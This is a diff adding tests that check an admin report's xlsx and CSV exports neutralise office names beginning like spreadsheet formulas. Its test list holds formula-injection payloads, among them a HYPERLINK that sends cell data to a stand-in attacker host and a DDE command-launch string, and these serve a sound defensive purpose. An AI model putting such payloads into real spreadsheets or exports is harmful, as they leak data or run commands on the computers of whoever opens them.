@@ -16,6 +16,8 @@ from admin.figures.labels import label
 from admin.figures.report import build_report, reference_names
 from admin.figures.service import refresh
 from storage.database import Database
+from storage.feedback_export import to_csv
+from storage.spreadsheet import spreadsheet_text
 from storage.uow import UnitOfWork
 from tests.figures.factory import insert_specs, random_spec
 
@@ -92,3 +94,57 @@ async def test_empty_month_exports_cleanly(database: Database) -> None:
     assert records == [records[0]]
     assert records[0]["responses"] == 0 and records[0]["suppressed"] is True
     openpyxl.load_workbook(io.BytesIO(render(report, "xlsx")))
+
+
+HOSTILE_NAMES = (
+    '=HYPERLINK("http://evil.example/?"&B2,"Click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+)
+
+
+def assert_no_formula(book_bytes: bytes) -> list[str]:
+    """No cell of the workbook is a formula; returns the texts that begin like one."""
+    book = openpyxl.load_workbook(io.BytesIO(book_bytes))
+    escaped = []
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
+                if isinstance(cell.value, str) and cell.value.startswith("'"):
+                    escaped.append(cell.value[1:])
+    return escaped
+
+
+async def test_hostile_office_names_are_text_in_every_export(database: Database) -> None:
+    await _report_data(database)
+    async with UnitOfWork(database.sessions) as uow:
+        offices = list(await uow.reference.offices(active_only=False))
+        for office, name in zip(offices, HOSTILE_NAMES, strict=False):
+            office.name_ru = name
+            office.code = name[:16]
+        await uow.commit()
+    await refresh(database, everything=True)
+    async with UnitOfWork(database.sessions) as uow:
+        report = await build_report(uow, "2026-09", CONFIG)
+        names = await reference_names(uow, "ru")
+    used = HOSTILE_NAMES[:5]  # the offices with responses in the month
+    escaped = assert_no_formula(render(report, "xlsx", "ru", names))
+    assert set(used) <= set(escaped)  # the names, as text, behind an apostrophe
+    rows = list(csv.reader(io.StringIO(render(report, "csv").decode())))
+    codes = {cell for row in rows for cell in row}
+    for name in used:
+        assert name[:16] not in codes and "'" + name[:16] in codes
+
+
+def test_one_escaping_for_every_spreadsheet_cell() -> None:
+    for text in HOSTILE_NAMES:
+        assert spreadsheet_text(text) == "'" + text
+    for text in ("-5", "+3.5", "1e3", "Astana", "", "a=b", "-"):
+        expected = "'-" if text == "-" else text
+        assert spreadsheet_text(text) == expected
+    assert spreadsheet_text("- 5") == "'- 5"  # a number only with spaces around is text
+    assert to_csv([{"a": "=1+1", "b": ["@x", "y"]}], ["a", "b"]) == "a,b\n'=1+1,'@x;y\n"
